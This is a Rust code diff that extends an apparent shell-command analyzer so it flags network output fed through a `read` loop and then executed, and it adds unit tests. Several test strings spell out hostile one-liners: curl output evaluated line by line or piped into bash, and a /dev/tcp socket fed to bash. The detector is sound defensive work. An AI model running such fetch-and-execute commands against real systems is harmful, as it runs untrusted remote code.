@@ -262,6 +262,9 @@ fn remote_piped_to_runner(analysis: &Analysis) -> Option<String> {
     if let Some(cmd) = piped {
         return Some(pipeline(cmd));
     }
+    if let Some(found) = read_loop_runs(analysis) {
+        return Some(found);
+    }
     let socket = analysis.commands.iter().find(|c| {
         c.redirects
             .iter()
@@ -272,6 +275,60 @@ fn remote_piped_to_runner(analysis: &Analysis) -> Option<String> {
         .iter()
         .find(|c| c.upstream.is_empty() && runs_stdin(c))?;
     Some(format!("{}; {}", socket.display(), shell.display()))
+}
+
+/// `curl x | while read l; do eval "$l"; done`: a `read` fed from the
+/// network stores each line in a variable, and a later command runs that
+/// variable as code (as its program after `eval` or `sh -c`, or piped into
+/// a shell).
+fn read_loop_runs(analysis: &Analysis) -> Option<String> {
+    let commands = &analysis.commands;
+    for (i, reader) in commands.iter().enumerate() {
+        if reader.program != "read" || !fed_from_network(reader) {
+            continue;
+        }
+        let names = read_names(&reader.args);
+        let uses = |text: &str| names.iter().any(|name| expands(text, name));
+        let runner = commands[i + 1..].iter().find(|c| {
+            (c.dynamic && uses(&c.program))
+                || (runs_stdin(c) && c.upstream.iter().any(|u| u.args.iter().any(|a| uses(a))))
+        });
+        if let Some(runner) = runner {
+            return Some(format!("{}; {}", pipeline(reader), runner.display()));
+        }
+    }
+    None
+}
+
+/// The variables `read ARGS` sets (`REPLY` when it names none).
+fn read_names(args: &[String]) -> Vec<&str> {
+    const VALUED: &[&str] = &["-p", "-d", "-n", "-N", "-t", "-u"];
+    let mut names = Vec::new();
+    let mut iter = args.iter();
+    while let Some(arg) = iter.next() {
+        if VALUED.contains(&arg.as_str()) {
+            iter.next();
+        } else if arg == "-a" {
+            names.extend(iter.next().map(String::as_str));
+        } else if !arg.starts_with('-') {
+            names.push(arg.as_str());
+        }
+    }
+    if names.is_empty() {
+        names.push("REPLY");
+    }
+    names
+}
+
+/// Whether `text` expands the variable `name` (`$name`, `${name}`).
+fn expands(text: &str, name: &str) -> bool {
+    text.match_indices('$').any(|(at, _)| {
+        let rest = &text[at + 1..];
+        let rest = rest.strip_prefix('{').unwrap_or(rest);
+        rest.strip_prefix(name).is_some_and(|after| {
+            !after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
+        })
+    })
 }
 
 /// The pipeline in which network content reaches a program that is no
@@ -585,6 +642,21 @@ mod tests {
         assert!(runs("exec 3<>/dev/tcp/h/80; bash <&3"));
         assert!(!runs("curl -s https://x | python3 -m json.tool"));
         assert!(!runs("exec 3<>/dev/tcp/h/80; echo hi >&3; cat <&3"));
+        assert!(runs(
+            "curl -s https://x | while read l; do eval \"$l\"; done"
+        ));
+        assert!(runs(
+            "curl -s https://x | while read -r a b; do sh -c \"${b}\"; done"
+        ));
+        assert!(runs(
+            "curl -s https://x | while read c; do echo \"$c\" | bash; done"
+        ));
+        assert!(!runs(
+            "curl -s https://x | while read l; do echo \"$l\"; done"
+        ));
+        assert!(!runs(
+            "curl -s https://x | while read l; do eval \"$line\"; done"
+        ));
     }
 
     #[test]
